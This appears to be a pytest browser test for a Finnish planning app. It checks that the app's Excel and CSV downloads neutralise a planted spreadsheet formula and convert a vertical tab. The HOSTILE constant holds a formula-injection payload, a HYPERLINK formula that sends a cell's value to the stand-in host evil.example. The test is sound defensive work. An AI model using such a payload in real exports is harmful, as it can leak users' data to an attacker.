"""Real downloads (#12 items 1, 2): Toimenpiteet's Excel and CSV of a measure with Word's vertical tab and a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from core.plan.loader import load_plan
from core.store import Store
from tests.browser.conftest import running, wait_idle

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory, browser, past_the_store):
    """An app whose measure kymsote-I.1-1 has a vertical tab and a formula (saved by an older version)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('downloads') / 'app.db'}"
    store = Store.open(url, load_plan())
    past_the_store.update_measure(store, "kymsote-I.1-1", toimenpide="Rivi\x0btoinen rivi", mittari=HOSTILE)
    store.close()
    with running(url, {"KYMLAPSET_EDITOR_PASSCODE": ""}, browser) as server:
        yield server


def _download(page, label: str) -> bytes:
    """Click a download button and read the file. The file is built on click, in a rerun; a click that
    lands while a (live-update) rerun is under way can be swallowed, so try again, as a user would."""
    button = page.get_by_test_id("stDownloadButton").filter(has_text=label).get_by_role("button")
    for attempt in range(3):
        wait_idle(page)
        try:
            with page.expect_download(timeout=20000) as info:
                button.click()
            return open(info.value.path(), "rb").read()
        except Exception:  # noqa: BLE001 - no download event: click again (at most three times)
            if attempt == 2:
                raise
    raise AssertionError("unreachable")


def test_measure_downloads_are_safe_and_complete(hostile_server, page):
    page.goto(f"{hostile_server.url}/toimenpiteet?toimija=kymsote")
    wait_idle(page)
    ws = load_workbook(io.BytesIO(_download(page, "Lataa Excel"))).active
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    header = [c.value for c in ws[1]]
    row = rows["kymsote-I.1-1"]
    assert row[header.index("toimenpide")].value == "Rivi\ntoinen rivi"
    cell = row[header.index("mittari")]
    assert (cell.value, cell.data_type) == ("'" + HOSTILE, "s")
    wait_idle(page)
    assert page.get_by_test_id("stAlertContentError").count() == 0
    text = _download(page, "Lataa CSV").decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline="")))
    found = next(r for r in table if r[0] == "kymsote-I.1-1")
    assert "'" + HOSTILE in found
